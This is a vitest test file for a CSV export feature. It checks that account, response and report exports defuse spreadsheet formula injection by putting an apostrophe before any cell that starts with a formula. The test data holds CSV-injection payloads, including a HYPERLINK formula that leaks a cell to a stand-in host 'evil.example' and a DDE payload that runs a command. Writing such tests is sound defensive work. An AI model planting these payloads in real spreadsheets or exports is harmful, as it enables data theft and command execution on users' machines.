// CSV exports open safely in a spreadsheet: every text cell that would start a formula is defused with an
// apostrophe, and otherwise each CSV cell is exactly the value the JSON answer holds.
import { afterAll, describe, expect, it } from 'vitest';
import { renderCsv } from '../src/cli/report-csv.js';
import { KPIS } from '../src/kpi/catalogue.js';
import type { Report } from '../src/kpi/engine.js';
import { buildApp } from '../src/server/app.js';
import { WorkspaceHub } from '../src/server/hub.js';

const hub = await WorkspaceHub.open(':memory:');
const app = await buildApp({ hub });
await hub.tenancy.createWorkspace('acme');
const { token } = await hub.tenancy.createKey('acme', ['read', 'ingest']);
afterAll(async () => {
  await app.close();
  await hub.close();
});
const auth = { authorization: `Bearer ${token}` };

/** OWASP's list of first characters that make a spreadsheet read a cell as a formula. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];
const payload = (k: number) => PAYLOADS[k % PAYLOADS.length]!;

async function post(url: string, rows: unknown[]) {
  const answer = await app.inject({ method: 'POST', url, headers: auth, payload: rows });
  expect(answer.statusCode, answer.body).toBe(200);
}

// Six accounts whose every text field is a formula, one of them with a formula as its id (ids are text).
await post(
  '/api/v1/accounts',
  PAYLOADS.map((_, k) => ({
    account_id: k === 0 ? "=cmd|' /C calc'!A0" : `acct-${k}`,
    created_at: '2024-01-01T00:00:00Z',
    name: payload(k),
    segment: payload(k + 1),
    country: payload(k + 2),
    attributes: { plan: payload(k + 3) },
  })),
);
await post(
  '/api/v1/responses',
  PAYLOADS.map((_, k) => ({
    response_id: k === 0 ? '=1+2' : `resp-${k}`,
    submitted_at: `2024-01-0${k + 2}T00:00:00Z`,
    metric: 'nps',
    score: k,
    account_id: `acct-${k + 1 === PAYLOADS.length ? 1 : k + 1}`,
    respondent_id: payload(k),
    comment: payload(k + 1),
    locale: payload(k + 2),
  })),
);

/** RFC 4180: fields split at commas, quoted fields may hold commas, line breaks and doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
    } else field += c;
  }
  if (field !== '' || record.length > 0) records.push([...record, field]);
  return records;
}

/** The cell a JSON value must become: numbers and plain text as they are, formulas behind an apostrophe. */
function expectedCell(value: unknown): string {
  if (value === null || value === undefined) return '';
  const text = String(value);
  return TRIGGERS.some((t) => text.startsWith(t)) ? `'${text}` : text;
}

/** Cells a spreadsheet would evaluate; a plain number (an NPS of -100, say) is read as that number. */
function cellsStartingAFormula(records: string[][]): string[] {
  const number = /^-?\d+(\.\d+)?(e[-+]?\d+)?$/i;
  return records.flat().filter((cell) => TRIGGERS.some((t) => cell.startsWith(t)) && !number.test(cell));
}

type Item = Record<string, unknown> & { attributes?: Record<string, unknown> };

/** Compares each CSV record with the JSON item of the same id, column by column. */
function compare(records: string[][], items: Item[], id: string): string[] {
  const [header, ...rows] = records;
  const byId = new Map(items.map((item) => [expectedCell(item[id]), item]));
  const mismatches: string[] = [];
  expect(rows).toHaveLength(items.length);
  for (const row of rows) {
    const item = byId.get(row[header!.indexOf(id)]!);
    if (!item) {
      mismatches.push(`no JSON item for ${JSON.stringify(row)}`);
      continue;
    }
    header!.forEach((column, c) => {
      const value = column.startsWith('attributes.')
        ? item.attributes?.[column.slice('attributes.'.length)]
        : item[column];
      if (row[c] !== expectedCell(value)) {
        mismatches.push(`${column}: ${JSON.stringify(row[c])} for ${JSON.stringify(value)}`);
      }
    });
  }
  return mismatches;
}

const get = (url: string, headers: Record<string, string> = {}) =>
  app.inject({ method: 'GET', url, headers: { ...auth, ...headers } });

describe.each([
  ['/api/v1/accounts', 'account_id'],
  ['/api/v1/responses', 'response_id'],
])('the CSV of %s', (url, id) => {
  it('defuses every formula and otherwise holds exactly the JSON values (format=csv)', async () => {
    const json = (await get(`${url}?limit=500`)).json<{ items: Item[] }>().items;
    expect(json.length).toBe(PAYLOADS.length);
    const csv = await get(`${url}?limit=500&format=csv`);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const records = parseCsv(csv.body);
    expect(cellsStartingAFormula(records)).toEqual([]);
    expect(compare(records, json, id)).toEqual([]);
  });

  it('is the same document when asked for with Accept: text/csv', async () => {
    const byFormat = await get(`${url}?limit=500&format=csv`);
    const byAccept = await get(`${url}?limit=500`, { accept: 'text/csv' });
    expect(byAccept.headers['content-type']).toMatch(/^text\/csv/);
    expect(byAccept.body).toBe(byFormat.body);
  });
});

describe('the CSV of the report (fidelio report --format csv)', () => {
  it('defuses segment names that are formulas', async () => {
    const answer = await get('/api/v1/report?from=2024-01-01&to=2024-02-01&segment_by=segment');
    const report = answer.json<Report>();
    const records = parseCsv(
      renderCsv(
        report,
        KPIS.map((k) => k.id),
      ),
    );
    expect(cellsStartingAFormula(records)).toEqual([]);
    const [header, ...rows] = records;
    const segments = rows.map((r) => r[header!.indexOf('segment')]);
    // One total row (segment empty) and one per segment: the six payloads, each behind an apostrophe.
    expect(segments.sort()).toEqual(['', ...PAYLOADS.map((p) => `'${p}`)].sort());
  });
});
